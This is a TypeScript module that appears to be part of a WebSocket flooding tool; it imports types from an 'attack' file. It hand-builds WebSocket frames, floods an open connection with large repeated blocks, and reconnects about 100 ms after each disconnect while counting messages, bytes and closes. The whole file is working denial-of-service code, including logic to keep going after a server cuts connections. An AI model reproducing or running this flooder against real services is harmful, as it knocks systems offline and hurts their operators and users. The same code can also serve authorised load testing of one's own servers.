import { once } from 'node:events';
import type { Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { WebSocket } from 'ws';
import type { Tally } from './attack.ts';

const blockBytes = 64 * 1024;
/** Whoever is cut off comes again at once. */
const againMs = 100;

export function frame(opcode: number, payload: string): Buffer {
  const bytes = Buffer.from(payload);
  const head = Buffer.alloc(bytes.length < 126 ? 6 : 14);
  head[0] = 128 | opcode;
  if (bytes.length < 126) head[1] = 128 | bytes.length;
  else {
    head[1] = 128 | 127;
    head.writeBigUInt64BE(BigInt(bytes.length), 2);
  }
  return Buffer.concat([head, bytes]);
}

/** Opens a connection, floods it until it is cut off, and opens another one. */
export async function floodAgainAndAgain(
  open: () => Promise<Socket>,
  pieces: readonly Buffer[],
  { tally, signal }: { tally: Tally; signal: AbortSignal },
): Promise<void> {
  while (!signal.aborted) {
    const socket = await open().catch(() => undefined);
    if (socket !== undefined) await floodSocket(socket, pieces, { tally, signal });
    if (socket?.destroyed && !signal.aborted) tally.closes += 1;
    await pause(againMs);
  }
}

async function floodSocket(
  socket: Socket,
  pieces: readonly Buffer[],
  { tally, signal }: { tally: Tally; signal: AbortSignal },
): Promise<void> {
  const whole = Buffer.concat(pieces);
  const times = Math.max(1, Math.floor(blockBytes / whole.length));
  const block = Buffer.concat(Array.from({ length: times }, () => whole));
  socket.on('error', () => undefined); // it is cut off in the middle of a word
  signal.addEventListener('abort', () => socket.destroy(), { once: true });
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
  while (socket.writable && !signal.aborted) {
    const isTaken = socket.write(block);
    tally.messages += times * pieces.length;
    tally.bytes += block.length;
    if (isTaken) await new Promise(setImmediate);
    else await Promise.race([once(socket, 'drain').catch(() => undefined), closed]);
  }
}

/** A WebSocket after its handshake, and after what it has to say first. */
export async function openWebSocket(
  url: string,
  { protocols = [], headers = {}, first }: { protocols?: string[]; headers?: Record<string, string>; first?: string },
): Promise<Socket> {
  const socket = new WebSocket(url, protocols, { headers, perMessageDeflate: false });
  socket.on('error', () => undefined);
  await new Promise<void>((resolve, reject) => {
    socket.once('open', resolve);
    socket.once('close', () => reject(new Error('refused')));
  });
  if (first !== undefined) {
    socket.send(first);
    await once(socket, 'message');
  }
  return (socket as unknown as { _socket: Socket })._socket;
}
